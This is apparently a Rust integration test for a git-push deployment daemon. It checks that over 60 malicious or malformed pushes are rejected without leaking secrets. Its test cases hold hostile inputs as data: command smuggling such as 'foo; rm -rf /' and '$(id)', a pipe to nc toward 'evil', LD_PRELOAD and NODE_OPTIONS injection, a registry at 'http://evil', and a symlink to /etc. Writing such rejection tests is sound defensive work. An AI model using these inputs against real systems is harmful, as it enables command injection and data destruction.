//! git pushes (names, branches, refs), manifests (catwalk.toml, server.json, package.json, pyproject.toml)
//! and secrets files.

use std::process::{Command, Stdio};

use super::{FIXTURE_TOML, Good};
use crate::daemon::{WorkTree, stderr, stdout};
use crate::deps;

fn write(wt: &WorkTree, file: &str, content: &[u8]) {
    let path = wt.path.join(file);
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, content).unwrap();
}

fn age_encrypt(args: &[&str], plaintext: &[u8]) -> Vec<u8> {
    let mut child = Command::new(deps::age())
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .expect("age (run ./scripts/test-deps)");
    use std::io::Write;
    child.stdin.take().unwrap().write_all(plaintext).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success());
    out.stdout
}

/// The recipient of the daemon's own identity (what `secrets pubkey` printed before per-app recipients).
fn daemon_wide_recipient(dir: &std::path::Path) -> String {
    let out = Command::new(deps::age_keygen()).arg("-y").arg(dir.join("age_identity.txt")).output().unwrap();
    assert!(out.status.success(), "age-keygen -y: {}", String::from_utf8_lossy(&out.stderr));
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

type Change = Box<dyn Fn(&WorkTree)>;

enum Push {
    /// Write files (relative path, content) into the good tree, commit, `git push catwalk main`.
    Files(Vec<(&'static str, Vec<u8>)>),
    /// Any other change of the good tree, then commit and push.
    Tree(Change),
    /// `git push ARGS...` from the good tree as it is (`{url}` is the daemon's ssh:// base).
    Git(Vec<String>),
    /// A commit whose root tree is the good tree's entries plus these `(mode, name, content)` entries,
    /// written byte by byte with git plumbing (names git itself never writes), pushed to main.
    Crafted(Vec<(&'static str, &'static [u8], Vec<u8>)>),
}

/// Runs git in `wt` with binary `input`; returns trimmed stdout.
fn git_input(wt: &WorkTree, args: &[&str], input: &[u8]) -> String {
    use std::io::Write;
    let mut cmd = Command::new("git");
    cmd.current_dir(&wt.path).args(args).stdin(Stdio::piped()).stdout(Stdio::piped());
    crate::daemon::isolate_git(&mut cmd);
    let mut child = cmd.spawn().unwrap();
    child.stdin.take().unwrap().write_all(input).unwrap();
    let out = child.wait_with_output().unwrap();
    assert!(out.status.success(), "git {args:?}");
    String::from_utf8(out.stdout).unwrap().trim().to_string()
}

/// Commits the good tree plus `extra` entries (contents become blobs; a `40000` entry's content is
/// the name of one file `x` inside it), unchecked, in git's order; returns the commit.
fn crafted_commit(wt: &WorkTree, extra: &[(&str, &[u8], Vec<u8>)]) -> String {
    let blob = |content: &[u8]| git_input(wt, &["hash-object", "-w", "--stdin"], content);
    let raw_tree = |entries: &mut Vec<(String, Vec<u8>, String)>| {
        entries.sort_by_key(|(mode, name, _)| {
            [name.clone(), if mode == "40000" { b"/".to_vec() } else { vec![] }].concat()
        });
        let mut raw = Vec::new();
        for (mode, name, oid) in entries.iter() {
            raw.extend_from_slice(format!("{mode} ").as_bytes());
            raw.extend_from_slice(name);
            raw.push(0);
            raw.extend((0..oid.len()).step_by(2).map(|i| u8::from_str_radix(&oid[i..i + 2], 16).unwrap()));
        }
        git_input(wt, &["hash-object", "-t", "tree", "--literally", "-w", "--stdin"], &raw)
    };
    let mut entries: Vec<(String, Vec<u8>, String)> = ["catwalk.toml", "server.py"]
        .iter()
        .map(|f| ("100644".to_string(), f.as_bytes().to_vec(), wt.git(&["rev-parse", &format!("HEAD:{f}")])))
        .collect();
    for (mode, name, content) in extra {
        let oid = if *mode == "40000" {
            raw_tree(&mut vec![("100644".into(), b"x".to_vec(), blob(content))])
        } else {
            blob(content)
        };
        entries.push((mode.to_string(), name.to_vec(), oid));
    }
    let root = raw_tree(&mut entries);
    let head = wt.git(&["rev-parse", "HEAD"]);
    wt.git(&["commit-tree", &root, "-p", &head, "-m", "crafted tree"])
}

fn toml(text: &str) -> Push {
    Push::Files(vec![("catwalk.toml", text.as_bytes().to_vec())])
}

fn fixture_with(extra: &str) -> Push {
    toml(&format!("{FIXTURE_TOML}{extra}"))
}

fn secrets(bytes: Vec<u8>) -> Push {
    Push::Files(vec![(".catwalk/secrets.age", bytes)])
}

#[tokio::test(flavor = "multi_thread")]
async fn pushes_manifests_and_secrets() {
    let g = Good::start();
    let d = &g.d;
    let recipient = g.admin("secrets pubkey good").trim().to_string();
    let other = age::x25519::Identity::generate().to_public().to_string();
    let daemon_wide = daemon_wide_recipient(&d.dir);
    let canary = format!("canary-{}-value", std::process::id());
    let valid_age = age_encrypt(&["-r", &recipient], b"API_TOKEN=x\n");
    let base = format!("ssh://git@127.0.0.1:{}", d.ssh_port);
    let git = |args: &[&str]| Push::Git(args.iter().map(|a| a.replace("{url}", &base)).collect());
    let npm = |spec: &str| toml(&format!("[server]\npackage = \"{spec}\"\n"));
    let sdk_package = |rest: &str| {
        Push::Tree(Box::new({
            let rest = rest.to_string();
            move |wt: &WorkTree| {
                std::fs::remove_file(wt.path.join("catwalk.toml")).unwrap();
                write(
                    wt,
                    "package.json",
                    format!(r#"{{"name":"s","dependencies":{{"@modelcontextprotocol/sdk":"1.0.0"}}{rest}}}"#)
                        .as_bytes(),
                );
            }
        }))
    };
    let only = |file: &'static str, content: &str| {
        let content = content.to_string();
        Push::Tree(Box::new(move |wt: &WorkTree| {
            std::fs::remove_file(wt.path.join("catwalk.toml")).unwrap();
            write(wt, file, content.as_bytes());
        }))
    };
    // (what, push, fragment of the message the pusher sees)
    #[rustfmt::skip]
    let cases: Vec<(&str, Push, &str)> = vec![
        // git: names, branches, refs
        ("a ../ app name", git(&["{url}/../x", "main"]), "is not a valid app name"),
        ("an upper-case app name", git(&["{url}/UPPER", "main"]), "\"/UPPER\" is not a valid app name"),
        ("an app name with a space", git(&["{url}/a%20b", "main"]), "is not a valid app name"),
        ("an app name with a quote", git(&["{url}/a'b", "main"]), "is not a valid app name"),
        ("a 100-char app name", git(&[&format!("{{url}}/{}", "a".repeat(100)), "main"]), "1-63 characters"),
        ("a nested repository path", git(&["{url}/good/x.git", "main"]), "is not a valid app name"),
        ("a non-deploy branch", git(&["catwalk", "main:dev"]), "deploys only branch main"),
        ("a tag", git(&["catwalk", "refs/tags/v1:refs/tags/v1"]), "tags are not deployed"),
        ("deleting the deploy branch", git(&["catwalk", ":main"]), "deleting main, the deploy branch"),
        ("a ref outside refs/heads", git(&["catwalk", "main:refs/notes/x"]), "refs/notes/x was refused"),
        // manifests
        ("catwalk.toml that is not TOML", toml("[server\npackage = 1"), "catwalk.toml: TOML parse error"),
        ("catwalk.toml with an unknown key", toml("[server]\npackge = \"npm:x\"\n"), "unknown field `packge`"),
        ("catwalk.toml with an unknown section", fixture_with("[extra]\nx = 1\n"), "unknown field `extra`"),
        ("catwalk.toml that is not UTF-8", Push::Files(vec![("catwalk.toml", b"[server]\n\xff\xfe".to_vec())]), "catwalk.toml is not UTF-8 text"),
        ("catwalk.toml over 256 KiB", fixture_with(&format!("# {}\n", "x".repeat(300 * 1024))), "larger than 256 KiB"),
        ("a shell command as a package", npm("npm:foo; rm -rf /"), "catwalk.toml: package \"foo; rm -rf /\" is not a valid npm name"),
        ("a ../ PyPI package", npm("pypi:../x"), "is not a valid PyPI name"),
        ("an empty npm scope name", npm("npm:@scope/"), "is not a valid npm name"),
        ("an upper-case npm name", npm("npm:Express"), "is not a valid npm name"),
        ("a package without a registry", npm("left-pad"), "prefix it with its registry"),
        ("a version range", npm("npm:express@^1.0"), "is not an exact version"),
        ("a PyPI version range", npm("pypi:mcp-server-time==>=1"), "is not an exact version"),
        ("a duplicate key", fixture_with("command = [\"python\", \"other.py\"]\n"), "duplicate key"),
        ("package and command in [server]", toml("[server]\npackage = \"npm:x\"\ncommand = [\"node\", \"x.js\"]\n"), "has both `package` and `command`"),
        ("neither package nor command", toml("[server]\nargs = []\n"), "needs `package ="),
        ("an empty command", toml("[server]\nlanguage = \"python\"\ncommand = []\n"), "`command` must not be empty"),
        ("a command outside the repository", toml("[server]\nlanguage = \"python\"\ncommand = [\"../../bin/sh\"]\n"), "must be relative to the repository"),
        ("a command with $(...)", toml("[server]\nlanguage = \"python\"\ncommand = [\"python\", \"$(id).py\"]\n"), "not allowed in server arguments"),
        ("args with backticks", fixture_with("args = [\"`id`\"]\n"), "not allowed in server arguments"),
        ("args with a newline", fixture_with("args = [\"a\\nb\"]\n"), "not allowed in server arguments"),
        ("args with a pipe", fixture_with("args = [\"a | nc evil 1\"]\n"), "not allowed in server arguments"),
        ("transport websocket", fixture_with("transport = \"websocket\"\n"), "transport \"websocket\" is not supported"),
        ("HTTP port 0", fixture_with("transport = \"http\"\nport = 0\n"), "port 0 is not a port"),
        ("HTTP port 70000", fixture_with("transport = \"http\"\nport = 70000\n"), "catwalk.toml: TOML parse error"),
        ("an HTTP path without /", fixture_with("transport = \"http\"\npath = \"mcp\"\n"), "is not a URL path"),
        ("an HTTP path forging output", fixture_with("transport = \"http\"\npath = \"/mcp\\nremote: live\"\n"), "is not a URL path"),
        ("a lower-case env name", fixture_with("[env.lower]\nvalue = \"x\"\n"), "env name \"lower\" is invalid"),
        ("NODE_OPTIONS", fixture_with("[env.NODE_OPTIONS]\nvalue = \"--require /tmp/x.js\"\n"), "env name \"NODE_OPTIONS\" is not allowed"),
        ("LD_PRELOAD", fixture_with("[env.LD_PRELOAD]\nvalue = \"/tmp/x.so\"\n"), "env name \"LD_PRELOAD\" is not allowed"),
        ("npm_config_registry", fixture_with("[env.npm_config_registry]\nvalue = \"http://evil\"\n"), "env name \"npm_config_registry\" is invalid"),
        ("NPM_CONFIG_REGISTRY", fixture_with("[env.NPM_CONFIG_REGISTRY]\nvalue = \"http://evil\"\n"), "env name \"NPM_CONFIG_REGISTRY\" is not allowed"),
        ("PATH", fixture_with("[env.PATH]\nvalue = \"/tmp\"\n"), "env name \"PATH\" is not allowed"),
        ("a secret with its value in the manifest", fixture_with(&format!("[env.API_TOKEN]\nsecret = true\nvalue = \"{canary}\"\n")), "belongs in .catwalk/secrets.age"),
        ("an unknown runtime", fixture_with("[deploy]\nruntime = \"mars\"\n"), "deploy.runtime \"mars\""),
        ("an unknown network mode", fixture_with("[deploy]\nnetwork = \"internet\"\n"), "deploy.network \"internet\""),
        ("a bad allowed origin", fixture_with("[deploy]\nallowed_origins = [\"evil.example\"]\n"), "is not an origin like https://example.com"),
        ("an unknown language", toml("[server]\nlanguage = \"cobol\"\ncommand = [\"x\"]\n"), "unknown variant `cobol`"),
        ("server.json that is not JSON", only("server.json", "{\"packages\": ["), "server.json: EOF while parsing"),
        ("server.json without npm/PyPI", only("server.json", r#"{"packages":[{"registryType":"oci","identifier":"x"}]}"#), "no package with registryType \"npm\" or \"pypi\""),
        ("server.json with a bad name", only("server.json", r#"{"packages":[{"registryType":"npm","identifier":"$(id)"}]}"#), "server.json: package \"$(id)\" is not a valid npm name"),
        ("server.json with port 0", only("server.json", r#"{"packages":[{"registryType":"npm","identifier":"x","version":"1.0.0","transport":{"type":"streamable-http","url":"http://localhost:0/mcp"}}]}"#), "server.json: port 0 is not a port"),
        ("server.json with an sse transport", only("server.json", r#"{"packages":[{"registryType":"npm","identifier":"x","transport":{"type":"sse"}}]}"#), "transport \"sse\" is not supported"),
        ("package.json without the MCP SDK", only("package.json", r#"{"name":"web","dependencies":{"react":"1"}}"#), "smallest catwalk.toml"),
        ("package.json that is not JSON", only("package.json", "{"), "package.json: EOF while parsing"),
        ("package.json with nothing to run", sdk_package(""), "needs `bin`, `main` or scripts.start"),
        ("package.json with a shell start script", sdk_package(r#","scripts":{"start":"npm run build && node x.js"}"#), "is not a plain `node FILE` command"),
        ("pyproject.toml without scripts", only("pyproject.toml", "[project]\nname = \"s\"\ndependencies = [\"mcp>=1\"]\n"), "needs a [project.scripts] entry"),
        ("pyproject.toml that is not TOML", only("pyproject.toml", "[project"), "pyproject.toml: TOML parse error"),
        ("no manifest at all", Push::Tree(Box::new(|wt: &WorkTree| std::fs::remove_file(wt.path.join("catwalk.toml")).unwrap())), "smallest catwalk.toml"),
        // secrets files
        ("secrets that are not age", secrets(format!("API_TOKEN={canary}\n").into_bytes()), ".catwalk/secrets.age is not an age file"),
        ("secrets for another recipient", secrets(age_encrypt(&["-r", &other], b"API_TOKEN=x\n")), "is not encrypted to app good"),
        ("secrets for the old daemon-wide recipient", secrets(age_encrypt(&["-r", &daemon_wide], format!("API_TOKEN={canary}\n").as_bytes())), "is encrypted to the daemon-wide recipient, which catwalk no longer accepts"),
        ("truncated secrets", secrets(valid_age[..valid_age.len() - 20].to_vec()), ".catwalk/secrets.age is damaged or truncated"),
        ("a malformed dotenv line", secrets(age_encrypt(&["-r", &recipient], format!("A=1\n{canary}\n").as_bytes())), ".catwalk/secrets.age: line 2 is not NAME=value"),
        ("an unterminated quote", secrets(age_encrypt(&["-r", &recipient], format!("API_TOKEN=\"{canary}\n").as_bytes())), "line 1 (API_TOKEN): unterminated quote"),
        ("a denied name in secrets", secrets(age_encrypt(&["-r", &recipient], format!("LD_PRELOAD={canary}\n").as_bytes())), "line 1: env name \"LD_PRELOAD\" is not allowed"),
        ("a secret set twice", secrets(age_encrypt(&["-r", &recipient], format!("A=1\nA={canary}\n").as_bytes())), "line 2: A is set twice"),
        ("a missing required secret", fixture_with("[env.API_TOKEN]\nrequired = true\nsecret = true\n"), "required env variable is missing: add API_TOKEN"),
        ("secrets over 1 MiB", secrets(vec![b'x'; (1 << 20) + 1]), "larger than 1 MiB"),
        // crafted trees (receive-pack runs no fsck; the export refuses what git never writes)
        ("a slash-named tree entry", Push::Crafted(vec![("100644", b"lib/x.py", b"x".to_vec())]), "tree entry \"lib/x.py\" contains '/'"),
        ("a .. tree entry", Push::Crafted(vec![("40000", b"..", b"x".to_vec())]), "tree entry \"..\" is a relative directory name"),
        ("a .git tree entry", Push::Crafted(vec![("40000", b".Git", b"[core]\n".to_vec())]), "tree entry \".Git\" is .git"),
        ("a duplicate tree entry", Push::Crafted(vec![("100644", b"server.py", b"x".to_vec())]), "lists the entry \"server.py\" twice"),
        ("a symlink out of the repository", Push::Crafted(vec![("120000", b"etc", b"/etc".to_vec())]), "symlink etc -> /etc that points outside the repository"),
        ("an escape sequence in an entry name", Push::Crafted(vec![("100644", b"\x1b[2J/x", b"x".to_vec())]), "tree entry \"\\x1b[2J/x\" contains '/'"),
    ];
    assert!(cases.len() >= 60);
    g.wt.git(&["tag", "v1"]);
    let before = g.snapshot(true);
    for (what, push, expected) in cases {
        g.wt.git(&["reset", "-q", "--hard", &g.live]);
        g.wt.git(&["clean", "-qfdx"]);
        let args: Vec<String> = match push {
            Push::Files(files) => {
                for (file, content) in &files {
                    write(&g.wt, file, content);
                }
                commit(&g.wt, what)
            }
            Push::Tree(change) => {
                change(&g.wt);
                commit(&g.wt, what)
            }
            Push::Git(args) => args,
            Push::Crafted(extra) => {
                vec!["catwalk".into(), format!("{}:refs/heads/main", crafted_commit(&g.wt, &extra))]
            }
        };
        let out = g.d.git(&d.admin, &g.wt.path).arg("push").args(&args).output().unwrap();
        let output = format!("{}{}", stdout(&out), stderr(&out));
        assert!(!out.status.success(), "{what}: the push was accepted:\n{output}");
        assert!(output.contains(expected), "{what}: expected {expected:?} in:\n{output}");
        eprintln!(
            "row [{what}]: {}",
            output.lines().filter(|l| l.contains(expected)).collect::<Vec<_>>().join(" | ")
        );
        assert!(!output.contains(&canary), "{what}: the push output shows a secret value:\n{output}");
        assert!(!d.log_text().contains(&canary), "{what}: the daemon log shows a secret value");
        g.unchanged(what, &before, true).await;
    }
    // Nothing was created on disk for the bad names.
    let repos: Vec<String> = std::fs::read_dir(d.dir.join("repos"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !n.starts_with('.'))
        .collect();
    assert_eq!(repos, ["good.git"]);
}

fn commit(wt: &WorkTree, what: &str) -> Vec<String> {
    wt.git(&["add", "-A"]);
    wt.git(&["commit", "-q", "--allow-empty", "-m", what]);
    vec!["catwalk".into(), "main".into()]
}
